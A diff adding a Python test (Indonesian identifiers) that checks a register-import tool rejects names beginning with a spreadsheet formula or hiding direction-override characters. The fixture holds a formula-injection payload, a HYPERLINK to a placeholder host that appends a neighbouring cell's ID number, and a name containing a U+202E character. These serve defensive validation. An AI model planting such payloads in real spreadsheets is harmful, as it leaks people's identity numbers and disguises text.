@@ -572,6 +572,23 @@ def test_berkas_tolak_tanpa_dibetulkan_tetap_menolak_nik_rusak(run, ws):
     assert "5271051512683431" not in r.stdout.split("Masalah")[-1]
 
 
+def test_nama_yang_berupa_rumus_ditolak_seperti_di_meja_layanan(run, ws, tmp_path):
+    """The desk refuses a name that starts like a formula or hides direction marks; the import
+    stored them (the register is opened in Excel, the NIK beside the name)."""
+    src = write_csv(
+        tmp_path / "nama.csv",
+        [
+            HEAD,
+            ["001/PPID/5271/I/2026", "5/1/2026", LINK, "Salinan DPT"],
+            ["002/PPID/5271/I/2026", "6/1/2026", "Ali\u202eevil", "Data TPS"],
+            ["003/PPID/5271/I/2026", "7/1/2026", "Baiq Nurul", "Data TPS"],
+        ],
+    )
+    r = run.refused("impor", str(src), "--register", "permohonan", message="bermasalah")
+    assert "baris 2, kolom Nama: diawali '=': itu rumus lembar kerja" in r.stderr
+    assert "baris 3, kolom Nama: memuat karakter tak terlihat" in r.stderr
+
+
 LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)
 
 
